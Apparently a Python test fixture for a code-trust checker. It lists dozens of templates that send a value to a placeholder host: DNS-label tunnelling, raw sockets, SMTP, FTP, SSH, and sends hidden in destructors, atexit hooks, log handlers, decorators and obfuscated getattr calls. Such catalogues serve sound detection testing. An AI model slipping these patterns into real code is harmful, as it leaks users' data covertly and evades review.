"""Ways to send something to a place that few think of: `<url>` and `<what>` are expressions."""

from tests.trust.fourth.code_styles import styles

CUNNING = styles(r"""
=== socket
s = socket.socket()
s.connect(("<host>", 443))
s.sendall(str(<what>).encode())
s.close()
>> top
import socket
=== datagram
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(repr(<what>).encode(), ("<host>", 53))
>> top
import socket
=== name lookup
socket.gethostbyname(str(<what>).encode().hex()[:60] + ".<host>")
>> top
import socket
=== dns library
dns.resolver.resolve(f"{str(<what>).encode().hex()[:50]}.<host>", "TXT")
>> top
import dns.resolver
=== http.client
c = http.client.HTTPSConnection("<host>", timeout=5)
c.request("GET", "/p?" + urllib.parse.quote(str(<what>)))
>> top
import http.client
import urllib.parse
=== websockets
with connect("wss://<host>/live") as ws:
    ws.send(json.dumps({"x": str(<what>)}))
>> top
import json
from websockets.sync.client import connect
=== websocket-client
websocket.create_connection("wss://<host>/ws").send(str(<what>))
>> top
import websocket
=== mail
with smtplib.SMTP("<host>", 25) as server:
    server.sendmail("a@plugin.dev", ["drop@<host>"], "Subject: x\n\n" + str(<what>))
>> top
import smtplib
=== ftp
ftp = ftplib.FTP("<host>")
ftp.login()
ftp.storbinary("STOR note.txt", io.BytesIO(str(<what>).encode()))
>> top
import ftplib
import io
=== partial
_go = functools.partial(requests.post, <url>, timeout=5)
_go(json={"k": str(<what>)})
>> top
import functools
import requests
=== alias and getattr
_lib = requests
getattr(_lib, "".join(("p", "o", "s", "t")))(<url>, json={"k": str(<what>)})
>> top
import requests
=== importlib
importlib.import_module("requests").post(<url>, json={"k": str(<what>)})
>> top
import importlib
=== __import__
__import__("requests").post(<url>, json={"k": str(<what>)})
=== reduce
functools.reduce(getattr, ("request", "urlopen"), urllib)(<url> + "?k=" + str(<what>))
>> top
import functools
import urllib.request
=== lambda
(lambda where, what: httpx.put(where, content=str(what)))(<url>, <what>)
>> top
import httpx
=== comprehension
[requests.post(u, json={"k": str(v)}, timeout=5) for u, v in ((<url>, <what>),)]
>> top
import requests
=== walrus
if (r := requests.post(<url>, json={"k": str(<what>)}, timeout=4)).ok:
    r.close()
>> top
import requests
=== match
match "send":
    case "send":
        httpx.request(method="POST", url=<url>, json={"k": str(<what>)})
>> top
import httpx
=== decorator
@_<name>
def _work(value):
    return value
_work(str(<what>))
>> top
import requests


def _<name>(function):
    def inner(value):
        requests.post(<url>, json={"args": value}, timeout=2)
        return function(value)

    return inner

=== logging
_log = logging.getLogger("<name>")
_log.addHandler(logging.handlers.HTTPHandler("<host>", "/log", method="POST", secure=True))
_log.error("call %s", <what>)
>> top
import logging
import logging.handlers
=== own log handler
logging.getLogger("<name>").warning("state: %r", <what>)
>> top
import logging
import requests


class _Forward(logging.Handler):
    def emit(self, record):
        requests.post(<url>, data=record.getMessage(), timeout=2)


logging.getLogger("<name>").addHandler(_Forward())
=== file name
requests.post(<url>, files={"file": (f"{<what>}.txt", b"x")}, timeout=5)
>> top
import requests
=== user agent
urllib.request.urlopen(urllib.request.Request(<url>, headers={"User-Agent": f"plugin/1.0 ({<what>})"}))
>> top
import urllib.request
=== path
httpx.get(<url> + "/" + base64.urlsafe_b64encode(str(<what>).encode()).decode())
>> top
import base64
import httpx
=== cookie
requests.get(<url>, cookies={"sid": str(<what>)}, timeout=5)
>> top
import requests
=== basic auth
requests.get(<url>, auth=("u", str(<what>)), timeout=5)
>> top
import requests
=== base_url
httpx.Client(base_url=<url>).post("/e", json={"k": str(<what>)})
>> top
import httpx
=== prepared
_p = requests.Request("POST", <url>, json={"k": str(<what>)}).prepare()
requests.Session().send(_p, timeout=5)
>> top
import requests
=== subclass of a session
_<Name>().note(str(<what>))
>> top
import requests


class _<Name>(requests.Session):
    def note(self, value):
        return self.post(<url>, json={"v": value})

=== context manager
with _span_<name>(<what>):
    pass
>> top
import contextlib
import httpx


@contextlib.contextmanager
def _span_<name>(value):
    yield
    httpx.post(<url>, json={"span": str(value)})

=== destructor
_<Name>(<what>)
>> top
import requests


class _<Name>:
    def __init__(self, value):
        self.value = value

    def __del__(self):
        requests.post(<url>, json={"v": str(self.value)})

=== exit hook
atexit.register(requests.post, <url>, json={"k": str(<what>)})
>> top
import atexit
import requests
=== timer
threading.Timer(5, lambda: requests.post(<url>, json={"k": str(<what>)})).start()
>> top
import threading
import requests
=== async client in a task
async def _run():
    async with httpx.AsyncClient() as c:
        await asyncio.gather(c.post(<url>, json={"k": str(<what>)}))
asyncio.run(_run())
>> top
import asyncio
import httpx
=== asyncio streams
async def _raw():
    _, w = await asyncio.open_connection("<host>", 443, ssl=True)
    w.write(str(<what>).encode())
    await w.drain()
asyncio.run(_raw())
>> top
import asyncio
=== opener
urllib.request.build_opener().open(<url>, data=str(<what>).encode())
>> top
import urllib.request
=== python in a subprocess
_code = "import sys,urllib.request as u;u.urlopen(sys.argv[1],sys.argv[2].encode())"
subprocess.Popen([sys.executable, "-c", _code, <url>, str(<what>)])
>> top
import subprocess
import sys
=== proxy
requests.get("http://example.com/" + str(<what>), proxies={"http": <url>}, timeout=5)
>> top
import requests
=== xml-rpc
xmlrpc.client.ServerProxy(<url>).note(str(<what>))
>> top
import xmlrpc.client
=== webbrowser
webbrowser.open(<url> + "?k=" + str(<what>))
>> top
import webbrowser
=== pycurl
_c = pycurl.Curl()
_c.setopt(pycurl.URL, <url>)
_c.setopt(pycurl.POSTFIELDS, str(<what>))
_c.perform()
>> top
import pycurl
=== redis
redis.Redis(host="<host>", port=6379).publish("events", str(<what>))
>> top
import redis
=== ssh
_ssh = paramiko.SSHClient()
_ssh.connect("<host>", username="u")
_ssh.exec_command("echo " + str(<what>))
>> top
import paramiko
=== mqtt
publish.single("events", str(<what>), hostname="<host>")
>> top
from paho.mqtt import publish
=== an SDK client pointed elsewhere
openai.OpenAI(api_key="x", base_url=<url>).chat.completions.create(model="m", messages=[{"role": "user", "content": str(<what>)}])
>> top
import openai
=== sentry
sentry_sdk.init(dsn="https://0123456789abcdef@<host>/4")
sentry_sdk.capture_message(str(<what>))
>> top
import sentry_sdk
""")
